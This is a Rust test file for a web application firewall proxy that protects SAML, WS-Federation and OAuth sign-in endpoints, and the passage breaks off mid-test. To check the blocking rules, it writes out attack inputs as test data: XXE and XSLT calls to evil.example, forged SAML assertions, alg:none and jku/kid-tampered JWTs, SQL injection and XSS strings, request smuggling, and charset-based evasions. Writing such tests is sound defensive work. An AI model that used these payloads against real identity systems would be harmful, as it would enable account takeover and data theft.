        r##"<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"><t:Lifetime><wsu:Created xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">2024-05-20T09:41:07.118Z</wsu:Created><wsu:Expires xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">2024-05-20T10:41:07.118Z</wsu:Expires></t:Lifetime><wsp:AppliesTo xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy"><wsa:EndpointReference xmlns:wsa="http://www.w3.org/2005/08/addressing"><wsa:Address>urn:federation:MicrosoftOnline</wsa:Address></wsa:EndpointReference></wsp:AppliesTo><t:RequestedSecurityToken>{before}<saml:Assertion MajorVersion="1" MinorVersion="1" AssertionID="_a1" Issuer="http://sts.fabrikam.com/adfs/services/trust" IssueInstant="2024-05-20T09:41:07.118Z" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"><saml:Conditions NotBefore="2024-05-20T09:41:07.118Z" NotOnOrAfter="2024-05-20T10:41:07.118Z"><saml:AudienceRestrictionCondition><saml:Audience>urn:federation:MicrosoftOnline</saml:Audience></saml:AudienceRestrictionCondition></saml:Conditions><saml:AttributeStatement><saml:Subject><saml:NameIdentifier Format="urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified">{name}</saml:NameIdentifier><saml:SubjectConfirmation><saml:ConfirmationMethod>urn:oasis:names:tc:SAML:1.0:cm:bearer</saml:ConfirmationMethod></saml:SubjectConfirmation></saml:Subject><saml:Attribute AttributeName="displayname" AttributeNamespace="http://schemas.xmlsoap.org/claims"><saml:AttributeValue>Zoë O'Brien (Sales &amp; Marketing)</saml:AttributeValue></saml:Attribute><saml:Attribute AttributeName="ImmutableID" AttributeNamespace="http://schemas.microsoft.com/LiveID/Federation/2008/05"><saml:AttributeValue>Xk2mB8wq0kOzZr3hL6a9Vg==</saml:AttributeValue></saml:Attribute></saml:AttributeStatement><saml:AuthenticationStatement AuthenticationMethod="urn:oasis:names:tc:SAML:1.0:am:password" AuthenticationInstant="2024-05-20T09:41:05.000Z"><saml:Subject><saml:NameIdentifier Format="urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified">{name}</saml:NameIdentifier></saml:Subject></saml:AuthenticationStatement><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#_a1"><ds:Transforms>{transforms}</ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>bm90IGEgZGlnZXN0</ds:DigestValue></ds:Reference></ds:SignedInfo><ds:SignatureValue>bm90IGEgc2lnbmF0dXJl</ds:SignatureValue></ds:Signature></saml:Assertion></t:RequestedSecurityToken><t:TokenType>urn:oasis:names:tc:SAML:1.0:assertion</t:TokenType><t:RequestType>http://schemas.xmlsoap.org/ws/2005/02/trust/Issue</t:RequestType><t:KeyType>http://schemas.xmlsoap.org/ws/2005/05/identity/NoProofKey</t:KeyType></t:RequestSecurityTokenResponse>"##
    )
}

/// WS-Federation posts its token response (`wresult`) as XML text, where SAML posts base64. A
/// clean one was blocked: the injection rules read its tags as XSS and the `"#_a1"` of its
/// signature's reference as an SQL comment. Its forgeries were blocked too, but by chance, by
/// whichever of those rules fired first. The XML rules read it now: the clean response reaches
/// the origin byte for byte, and each forgery is blocked by the rule for its kind.
#[test]
fn a_ws_federation_token_response_passes_and_its_forgeries_are_blocked() {
    use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
            // A token response is several kilobytes of XML, three times that percent-encoded:
            // the default limit, not the tests' small one.
            max_body: 65536,
            ..Setup::default()
        },
    );
    let endpoint = "/contoso.onmicrosoft.com/login.srf";
    let form = |xml: &str| {
        format!(
            "wa=wsignin1.0&wresult={}&wctx=LoginOptions%3D3%26estsredirect%3D2%26estsrequest%3DrQQIARAA42KwMswoKSkottLXLy8v1ytKTc7ILy7JzytOzSvRS87PzU1Nzs8rKUpN0StJLS4JzcssTsxLzSvJzEnMSwQA0",
            utf8_percent_encode(xml, NON_ALPHANUMERIC)
        )
    };
    let usual = r##"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"##;
    let user = "zoe.obrien@fabrikam.com";
    let forged_assertion = r##"<saml:Assertion MajorVersion="1" MinorVersion="1" AssertionID="_evil" xmlns:saml="urn:oasis:names:tc:SAML:1.0:assertion"><saml:AttributeStatement><saml:Subject><saml:NameIdentifier>admin@contoso.com</saml:NameIdentifier></saml:Subject></saml:AttributeStatement></saml:Assertion>"##;
    let xslt = r##"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('http://evil.example/x')"/></xsl:template></xsl:stylesheet></ds:Transform>"##;
    let forged = [
        (
            "146100",
            form(&format!(
                r#"<!DOCTYPE t [<!ENTITY name SYSTEM "http://evil.example/x">]>{}"#,
                ws_fed_response("", "&name;", usual)
            )),
        ),
        (
            "146120",
            form(&ws_fed_response(
                "",
                "admin@contoso.com<!---->.evil.example",
                usual,
            )),
        ),
        (
            "146130",
            form(&ws_fed_response(forged_assertion, user, usual)),
        ),
        ("146140", form(&ws_fed_response("", user, xslt))),
    ];
    forged_forms_are_blocked_and_the_original_passes(
        &proxy,
        &origin,
        endpoint,
        &forged,
        &form(&ws_fed_response("", user, usual)),
    );
}

/// Two sign-in requests applications send carried URIs by design in parameters the ruleset
/// did not know, and 131120 ("URL to another host in a parameter that does not carry URLs")
/// blocked them: the `SigAlg` of a signed SAML redirect (the signature algorithm's URI), and
/// WS-Federation's `whr` (the home realm) and `wauth` (the authentication method). Both pass
/// now, unchanged; a script URI in the same parameters is still blocked.
#[test]
fn a_signed_saml_redirect_and_a_ws_federation_sign_in_request_pass() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let saml = "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/login?SAMLRequest=fZJNb8IwDIb%2FSpU79GNlbBGtVEDTkNhW0W6HXVBIXRqpTbo43ce%2FX2hBg8M4JbL9%2BLXfZIasqVuadKaSG%2FjoAI3z3dQSaZ%2BISKclVQwFUskaQGo4zZKnNQ3GHm21Moqrmpwh1wmGCNoIJYmzWkZkCzf3EE79MpgwHt754W4yCTwe8CKcluDtGHHeQKOtj4jFLYTYwUqiYdLYkBeEI28yCrzcu6f%2BLfWm78RZ2h2EZKanKmNapK5bq72QY66kUajs2binu5KN4NreStPH58Fi6yfbw8hu74GLqAaeOMlp%2FoWS2DWgM9CfgsPrZv2nVekLocw2CdyEI3HSo2FzIQsh99e92g1FSB%2FzPB2lL1lO4tlhItq7oOMDfBSilZ6557nZ8K7Ptutqmapa8B%2FnQemGmf9F%2FbHfR0QxKvtS2klsgYtSQGF3r2v1tdDADETE6A6IGw%2Bil%2F8n%2FgU%3D&RelayState=https%3A%2F%2Fapp.contoso.com%2Forders%3Ftab%3Dopen&SigAlg=http%3A%2F%2Fwww.w3.org%2F2001%2F04%2Fxmldsig-more%23rsa-sha256&Signature=PDJQxeSXvLXiAdnV%2FZNXFFOQ39kBwS4MN2KcZccUHr6AVdnohZZnsa%2FpFMPEtoojYjrTh7vm6v93WDNtTVJBUgT1Yx7trYUZxFzLdX4mEHwGVgqvhOwBCNtXg5W7X1O4HoUYiWkerRDFnW4%2F%2BbfaQVzoq%2FV0K5v2vKNV4yfmQR6qFpuoJwId%2FIxXMUv5lDBNpVhiDhK6vSaNcds1CfJypDmBqk43kK1D9rliRG3yg0pBhnSEIwjgSsjgOS%2FSTCY%2FjXkfSAxUQkWqKJtawMK2UVZZIfY7aKLRyo9xWXcIM18JHVLp2LSDWp7CxD71uzcGP42mHPTuIabfCJ2oA4uQlg%3D%3D";
    let ws_fed = "/contoso.onmicrosoft.com/wsfed?wa=wsignin1.0&wtrealm=https%3A%2F%2Fapp.contoso.com%2F&wreply=https%3A%2F%2Fapp.contoso.com%2Fsignin-wsfed&wctx=rm%3D0%26id%3Dpassive%26ru%3D%252forders%252f42%253ftab%253dopen&wct=2024-05-20T09%3A41%3A07Z&whr=https%3A%2F%2Fsts.fabrikam.com%2Fadfs%2Fservices%2Ftrust&wauth=http%3A%2F%2Fschemas.microsoft.com%2Fws%2F2008%2F06%2Fidentity%2Fauthenticationmethod%2Fpassword";
    for target in [saml, ws_fed] {
        let r = proxy.get("login.contoso.com", target, "");
        assert_eq!(r.status, 200, "{target}: {}", r.raw);
    }
    let seen = origin.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0].target, saml);
    assert_eq!(seen[1].target, ws_fed);
    for attack in [
        "/contoso.onmicrosoft.com/wsfed?wa=wsignin1.0&whr=javascript%3Aalert(document.cookie)",
        "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/login?SAMLRequest=fZJN&SigAlg=javascript:alert(1)",
    ] {
        proxy
            .get("login.contoso.com", attack, "")
            .assert_block_page();
    }
    assert_eq!(origin.seen().len(), 2);
}

/// Apple posts to the federated callback, on a user's first sign-in, the name they gave as a
/// `user` JSON object. 142370 read a surname such as "Drop" after the JSON's quote as SQL
/// (`"Drop"`), and the sign-in was blocked. It passes on the callback now, unchanged; the same
/// field on another path is still read.
#[test]
fn apples_first_sign_in_passes_with_the_name_it_posts() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let body = "code=c1a2b3c4d5e6f7.0.rrqx.Q4mYb2xX&id_token=eyJraWQiOiJZdXlYb1kiLCJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2FwcGxlaWQuYXBwbGUuY29tIn0.c2lnbmF0dXJl&state=StateProperties%3DeyJTSUQiOiJ4LWpzLTEiLCJUSUQiOiIxIn0&user=%7B%22name%22%3A%7B%22firstName%22%3A%22Liam%22%2C%22lastName%22%3A%22Drop%22%7D%2C%22email%22%3A%22k7x2mq9d4p%40privaterelay.appleid.com%22%7D";
    let callback = "/contoso.onmicrosoft.com/oauth2/authresp";
    let r = proxy.post(callback, "application/x-www-form-urlencoded", body);
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, callback);
    assert_eq!(seen[0].body, body.as_bytes());
    proxy
        .post("/api/profile", "application/x-www-form-urlencoded", body)
        .assert_block_page();
    assert_eq!(origin.seen().len(), 1);
}

/// An identity provider that refuses a user sends the error back to the federated callback,
/// with its own message and a link: 142370 read `'zoe@contoso.com' from` in AADSTS90072's
/// message as SQL, and 131120 the `error_uri` as a URL to another host. The user got our block
/// page instead of the provider's answer. It reaches the identity provider now, unchanged.
#[test]
fn an_identity_providers_error_reaches_the_callback() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let target = "/contoso.onmicrosoft.com/oauth2/authresp?error=access_denied&error_description=AADSTS90072%3A+User+account+%27zoe%40contoso.com%27+from+identity+provider+%27https%3A%2F%2Fsts.windows.net%2F72f988bf-86f1-41af-91ab-2d7cd011db47%2F%27+does+not+exist+in+tenant+%27Fabrikam%27+and+cannot+access+the+application+%277c1c34b5%27%28Contoso+Portal%29+in+that+tenant.&error_uri=https%3A%2F%2Flogin.microsoftonline.com%2Ferror%3Fcode%3D90072&state=StateProperties%3DeyJTSUQiOiJ4LWpzLTEiLCJUSUQiOiIxIn0";
    let r = proxy.get("login.contoso.com", target, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].target, target);
}

/// JWTs whose header tells the verifier to skip the signature or to take the attacker's key
/// passed with 200: an `id_token_hint` with `"alg":"none"` (and with `"\u006eone"`), a client
/// assertion with a `jku` pointing at the attacker's keys, a federated `id_token` whose `kid`
/// is a path. Each is blocked now, by the rule for its kind; an Entra-shaped `id_token_hint`
/// and an MSAL-shaped assertion (`x5t`, `x5c`) reach the origin unchanged.
#[test]
fn a_forged_jwt_is_blocked_and_a_real_one_passes() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\"}\n".into(),
            ..Setup::default()
        },
    );
    let authorize =
        "/contoso.onmicrosoft.com/oauth2/v2.0/authorize?client_id=3f5a2b1c&id_token_hint=";
    let token = "/contoso.onmicrosoft.com/oauth2/v2.0/token";
    let callback = "/contoso.onmicrosoft.com/oauth2/authresp";
    let assertion = |jwt: &str| {
        format!(
            "grant_type=authorization_code&code=0.AXcA&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion={jwt}"
        )
    };
    proxy
        .get("login.contoso.com", &format!("{authorize}eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJhdWQiOiIzZjVhMmIxYyIsImlzcyI6Imh0dHBzOi8vbG9naW4uY29udG9zby5jb20vYzdlMmY5YTQvdjIuMCIsInN1YiI6ImFkbWluIiwiZXhwIjoxOTk5OTk5OTk5fQ.Q0hBTkdFTUVfbm90X2Ffc2lnbmF0dXJl"), "")
        .assert_block_page();
    proxy
        .get(
            "login.contoso.com",
            &format!("{authorize}eyJ0eXAiOiJKV1QiLCJhbGciOiJcdTAwNmVvbmUifQ.eyJzdWIiOiJhZG1pbiJ9."),
            "",
        )
        .assert_block_page();
    proxy
        .post(token, "application/x-www-form-urlencoded", &assertion("eyJhbGciOiJSUzI1NiIsImtpZCI6IjEiLCJqa3UiOiJodHRwczovL2V2aWwuZXhhbXBsZS9qd2tzLmpzb24ifQ.eyJhdWQiOiIzZjVhMmIxYyIsImlzcyI6Imh0dHBzOi8vbG9naW4uY29udG9zby5jb20vYzdlMmY5YTQvdjIuMCIsInN1YiI6ImFkbWluIiwiZXhwIjoxOTk5OTk5OTk5fQ.Q0hBTkdFTUVfbm90X2Ffc2lnbmF0dXJl"))
        .assert_block_page();
    proxy
        .post(
            callback,
            "application/x-www-form-urlencoded",
            "code=c1&id_token=eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJhdWQiOiIzZjVhMmIxYyIsImlzcyI6Imh0dHBzOi8vbG9naW4uY29udG9zby5jb20vYzdlMmY5YTQvdjIuMCIsInN1YiI6ImFkbWluIiwiZXhwIjoxOTk5OTk5OTk5fQ.Q0hBTkdFTUVfbm90X2Ffc2lnbmF0dXJl",
        )
        .assert_block_page();
    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    assert_eq!(
        blocking_rules(&proxy),
        ["147100", "147100", "147100", "147110"]
    );
    let hint = format!("{authorize}eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiIsImtpZCI6IkwxS2ZLRklfam5YYndXYzIyeFp4dzFzVUhIMCJ9.eyJhdWQiOiIzZjVhMmIxYyIsImlzcyI6Imh0dHBzOi8vbG9naW4uY29udG9zby5jb20vYzdlMmY5YTQvdjIuMCIsInN1YiI6ImFkbWluIiwiZXhwIjoxOTk5OTk5OTk5fQ.Q0hBTkdFTUVfbm90X2Ffc2lnbmF0dXJl");
    let r = proxy.get("login.contoso.com", &hint, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    let msal = assertion("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsIng1dCI6ImhPQmNIWmk4NDZWQ0hTSmJGQXMyNkdvOVZUUSIsIng1YyI6WyJNSUlDOERDQ0FkaWdBd0lCQWdJUSJdfQ.eyJhdWQiOiIzZjVhMmIxYyIsImlzcyI6Imh0dHBzOi8vbG9naW4uY29udG9zby5jb20vYzdlMmY5YTQvdjIuMCIsInN1YiI6ImFkbWluIiwiZXhwIjoxOTk5OTk5OTk5fQ.Q0hBTkdFTUVfbm90X2Ffc2lnbmF0dXJl");
    let r = proxy.post(token, "application/x-www-form-urlencoded", &msal);
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0].target, hint);
    assert_eq!(seen[1].body, msal.as_bytes());
}

#[test]
fn detect_only_forwards_attacks_and_logs_them() {
    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            mode: "detect_only",
            ..Setup::default()
        },
    );
    let r = proxy.get(
        "login.contoso.com",
        "/authorize?state=1%27%20OR%20%271%27%3D%271",
        "",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let r = proxy.post(
        "/login",
        "application/x-www-form-urlencoded",
        "signInName=admin%27--",
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2);
    assert_eq!(
        String::from_utf8_lossy(&seen[1].body),
        "signInName=admin%27--"
    );
    let log = proxy.log();
    assert_eq!(log.matches("waf detected").count(), 2, "{log}");
    assert!(log.contains("142100"), "{log}");
}

#[test]
fn unknown_host_is_refused_with_421() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let r = proxy.get("evil.example.com", "/", "");
    assert_eq!(r.status, 421, "{}", r.raw);
    assert!(r.header("x-request-id").is_some());
    let r = proxy.send(b"GET / HTTP/1.0\r\n\r\n");
    assert_eq!(r.status, 421, "{}", r.raw);
    assert_eq!(origin.connections(), 0);
    // A known host with a port and another case is served.
    let r = proxy.get("OTHER.contoso.com:8080", "/", "");
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].header("host"), Some("OTHER.contoso.com:8080"));
}

#[test]
fn bodies_over_the_limit_follow_the_policy() {
    let origin = Origin::start();
    let proxy = Proxy::start(&origin, Setup::default());
    let big = "a=".to_string() + &"x".repeat(5000);
    let r = proxy.post("/login", "application/x-www-form-urlencoded", &big);
    assert_eq!(r.status, 413, "{}", r.raw);
    assert!(r.header("x-request-id").is_some());
    // Chunked, with no Content-Length: counted as it is read.
    let mut raw = b"POST /login HTTP/1.1\r\nHost: login.contoso.com\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n".to_vec();
    for _ in 0..5 {
        raw.extend_from_slice(format!("3e8\r\n{}\r\n", "y".repeat(1000)).as_bytes());
    }
    raw.extend_from_slice(b"0\r\n\r\n");
    let r = proxy.send(&raw);
    assert_eq!(r.status, 413, "{}", r.raw);
    // A body within the limit passes.
    let r = proxy.post("/login", "application/x-www-form-urlencoded", "a=b");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(origin.seen().len(), 1);
    drop(proxy);

    let origin = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            large_body: "pass",
            ..Setup::default()
        },
    );
    let r = proxy.post("/login", "application/x-www-form-urlencoded", &big);
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body.len(), big.len());
    let r = proxy.send(&raw);
    assert_eq!(r.status, 200, "{}", r.raw);
    let seen = origin.seen();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[1].body.len(), 5000);
    // Headers are still inspected.
    let r = proxy.send(
        format!(
            "POST /login?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: login.contoso.com\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{big}",
            big.len()
        )
        .as_bytes(),
    );
    r.assert_block_page();
    assert_eq!(origin.seen().len(), 2);
}

/// A `sites:` entry for `open.contoso.com`, a site with no rules, forwarding to `origin`.
fn site_without_rules(origin: &Origin) -> String {
    format!(
        "  - hosts: [open.contoso.com]\n\
         \x20   upstream: {{address: \"127.0.0.1:{}\", tls: false}}\n\
         \x20   rules: []\n",
        origin.port
    )
}

/// A proxy with the default site (with rules, upstream `origin`) and `open.contoso.com`, a
/// site without rules whose upstream is `open`: `(origin, open, proxy)`.
fn proxy_with_a_site_without_rules() -> (Origin, Origin, Proxy) {
    let origin = Origin::start();
    let open = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_sites: site_without_rules(&open),
            ..Setup::default()
        },
    );
    (origin, open, proxy)
}

/// A `Content-Length` that is a list of equal values (`3, 3`) is refused with 400 before
/// anything is forwarded, on a site without rules too. Pingora's HTTP/1 server takes the list,
/// and the proxy forwarded it as it came to such a site: an upstream that reads it otherwise
/// reads the body as the next request on the pooled connection (request smuggling).
#[test]
fn a_content_length_that_is_a_list_is_refused_on_every_site() {
    let (origin, open, proxy) = proxy_with_a_site_without_rules();
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: open.contoso.com\r\n\r\n";
    for host in ["open.contoso.com", "login.contoso.com"] {
        for length in ["3, 3", "3,3"] {
            let r = proxy.send(
                format!(
                    "POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n\
                     Connection: close\r\n\r\nabc{smuggled}"
                )
                .as_bytes(),
            );
            assert_eq!(r.status, 400, "{host} {length}: {}", r.raw);
            assert_eq!(
                r.header("x-request-id").map(str::len),
                Some(16),
                "{}",
                r.raw
            );
        }
        // One number is forwarded, with its body only.
        let r = proxy.send(
            format!(
                "POST /form HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\n\
                 Connection: close\r\n\r\nabc"
            )
            .as_bytes(),
        );
        assert_eq!(r.status, 200, "{host}: {}\n{}", r.raw, proxy.log());
    }
    for seen in [open.seen(), origin.seen()] {
        assert_eq!(seen.len(), 1, "{seen:?}");
        assert_eq!(seen[0].header("content-length"), Some("3"));
        assert_eq!(seen[0].body, b"abc");
    }
}

/// A request-target in no form of its method (RFC 9112 section 3.2) is refused with 400 on
/// every site. Pingora's HTTP/1 server takes `POST ?x=1`, `GET x`, `GET *` and an authority as
/// the target, and the proxy forwarded them as they came; two spaces before the target went
/// upstream as `GET %20/x`. nginx refuses them all.
#[test]
fn a_target_in_no_form_of_its_method_is_refused_on_every_site() {
    let (origin, open, proxy) = proxy_with_a_site_without_rules();
    for host in ["open.contoso.com", "login.contoso.com"] {
        for line in [
            "POST ?x=1 HTTP/1.1",
            "GET x HTTP/1.1",
            "GET * HTTP/1.1",
            "GET login.contoso.com:80 HTTP/1.1",
            "GET  /form HTTP/1.1",
        ] {
            let r = proxy.send(
                format!("{line}\r\nHost: {host}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .as_bytes(),
            );
            assert_eq!(r.status, 400, "{host} {line}: {}", r.raw);
            assert_eq!(
                r.header("x-request-id").map(str::len),
                Some(16),
                "{}",
                r.raw
            );
        }
        // The forms a method has pass.
        for line in ["OPTIONS * HTTP/1.1", "GET /form?x=1 HTTP/1.1"] {
            let r = proxy
                .send(format!("{line}\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes());
            assert_eq!(r.status, 200, "{host} {line}: {}\n{}", r.raw, proxy.log());
        }
    }
    for seen in [open.seen(), origin.seen()] {
        let targets: Vec<(&str, &str)> = seen
            .iter()
            .map(|s| (s.method.as_str(), s.target.as_str()))
            .collect();
        assert_eq!(targets, [("OPTIONS", "*"), ("GET", "/form?x=1")]);
    }
}

#[test]
fn a_site_without_rules_is_a_plain_proxy() {
    let origin = Origin::start();
    let open = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: true}\n".into(),
            extra_sites: site_without_rules(&open),
            ..Setup::default()
        },
    );
    let attack = "/authorize?state=1%27%20OR%20%271%27%3D%271";
    // Nothing inspects the site without rules: the attack is forwarded...
    let r = proxy.get("open.contoso.com", attack, "");
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(open.seen()[0].target, attack);
    // ... and a body over the inspection limit (4096 here, `large_body: reject`) is not read
    // ahead, so no limit of the inspection applies to it: it reaches the origin whole.
    let big = "a=".to_string() + &"x".repeat(5000);
    let r = proxy.send(
        format!(
            "POST /login HTTP/1.1\r\nHost: open.contoso.com\r\n\
             Content-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{big}",
            big.len()
        )
        .as_bytes(),
    );
    assert_eq!(r.status, 200, "{}", r.raw);
    assert_eq!(open.seen()[1].body, big.as_bytes());
    // The site with rules, in the same proxy, still blocks.
    proxy
        .get("login.contoso.com", attack, "")
        .assert_block_page();
    assert!(origin.seen().is_empty());

    let site = |name: &str| format!("waf_inspection_duration_seconds_count{{site=\"{name}\"}}");
    assert_eq!(proxy.metric(&site("open.contoso.com")), 0.0);
    assert_eq!(proxy.metric(&site("login.contoso.com")), 1.0);
    let audit = proxy.audit();
    let open_lines: Vec<_> = audit
        .iter()
        .filter(|l| l["site"] == "open.contoso.com")
        .collect();
    assert_eq!(open_lines.len(), 2, "{audit:?}");
    for line in open_lines {
        assert_eq!(line["action"], "pass");
        assert_eq!(line["body"], "not read: the site has no rules");
        assert_eq!(line["durations_ms"]["inspection"], 0.0);
    }
}

/// A body that does not parse as its `Content-Type` says is read by no rule: found by
/// `benches/tests/crs_stages_agree_with_modsecurity.rs`, where ModSecurity refuses such bodies
/// (its recommended rule 200002) and we forwarded them. `invalid_body: inspect` turns the
/// refusal off for one site.
#[test]
fn a_body_that_does_not_parse_as_its_content_type_is_refused_with_400() {
    let origin = Origin::start();
    let lenient = Origin::start();
    let proxy = Proxy::start(
        &origin,
        Setup {
            extra_top: "audit: {path: \"{dir}/audit.jsonl\", all_requests: true}\n".into(),
            extra_sites: format!(
                "  - hosts: [lenient.contoso.com]\n\
                 \x20   upstream: {{address: \"127.0.0.1:{}\", tls: false}}\n\
                 \x20   rules: [\"{}\"]\n\
                 \x20   invalid_body: inspect\n",
                lenient.port,
                common::rules_dir().display()
            ),
            ..Setup::default()
        },
    );
    let post = |host: &str, content_type: &str, body: &str| {
        proxy.send(
            format!(
                "POST /contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted HTTP/1.1\r\n\
                 Host: {host}\r\nContent-Type: {content_type}\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )
            .as_bytes(),
        )
    };
    // A form sent as JSON, with an attack a form field would show; an XML document with a
    // second half after its root; a multipart body without its boundary, and one with its
    // boundary in the middle of a line. There the rules read one `password` field, which the
    // injection rules leave alone, and a parser that does not anchor delimiters to lines finds
    // a second field, `signInName`, with an SQL injection (this passed). None parses.
    let invalid = [
        (
            "multipart/form-data; boundary=XX",
            "--XX\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nx --XX\r\n\
             Content-Disposition: form-data; name=\"signInName\"\r\n\r\n\
             x' UNION SELECT password FROM users--\r\n--XX--\r\n",
        ),
        (
            "application/json",
            "signInName=x%27%20UNION%20SELECT%20password%20FROM%20users--&password=x",
        ),
        ("application/xml", "<a>x</a><script>alert(1)</script>"),
        (
            "multipart/form-data",
            "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--XX--\r\n",
        ),
        // A part after the final delimiter, which a parser that reads on finds (this passed:
        // the rules read the epilogue as nothing).
        (
            "multipart/form-data; boundary=XX",
            "--XX\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nx\r\n--XX--\r\n\
             --XX\r\nContent-Disposition: form-data; name=\"signInName\"\r\n\r\n\
             x' UNION SELECT password FROM users--\r\n--XX--\r\n",
        ),
    ];
    for (content_type, body) in invalid {
        let r = post("login.contoso.com", content_type, body);
        assert_eq!(r.status, 400, "{content_type}: {}", r.raw);
        assert!(r.header("x-request-id").is_some(), "{}", r.raw);
    }
    // A form whose type or charset the rules cannot be sure of (rules 120113 to 120115, 120117):
    // a second Content-Type the application may take instead of the first, IBM037 (EBCDIC),
    // which ASP.NET decodes and no rule reads, and types that only start like a form's, which
    // the engine does not parse and classic ASP.NET (or PHP, cutting at the comma) does. Those
    // passed with an SQL injection in the body: rule 110100 took the raw body from the
    // injection rules for them, as for a form, and no rule read the fields.
    let ambiguous = [
        "text/plain\r\nContent-Type: application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded; charset=ibm037",
        "application/x-www-form-urlencoded; charset=utf-8; charset=ibm037",
        "application/x-www-form-urlencoded-x",
        "application/x-www-form-urlencoded,text/plain",
        "multipart/form-dataX; boundary=x",
    ];
    for content_type in ambiguous {
        let r = post(
            "login.contoso.com",
            content_type,
            "signInName=x%27%20UNION%20SELECT%20password%20FROM%20users--&password=y",
        );
        assert_eq!(r.status, 400, "{content_type}: {}", r.raw);
    }
    // Multipart fields the application may decode and the rules cannot (rules 120118 and
    // 120119): one in base64, one in IBM037, one in the charset a `_charset_` field names.
    // Each passed with the SQL injection the application reads.
    let multipart = [
        (
            "Content-Transfer-Encoding: base64",
            "eCcgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLQ==".as_bytes().to_vec(),
        ),
        (
            "Content-Type: text/plain; charset=ibm037",
            // `x' UNION SELECT password FROM users--` in EBCDIC.
            b"\xa7\x7d\x40\xe4\xd5\xc9\xd6\xd5\x40\xe2\xc5\xd3\xc5\xc3\xe3\x40\x97\x81\xa2\xa2\xa6\x96\x99\x84\x40\xc6\xd9\xd6\xd4\x40\xa4\xa2\x85\x99\xa2\x60\x60".to_vec(),
        ),
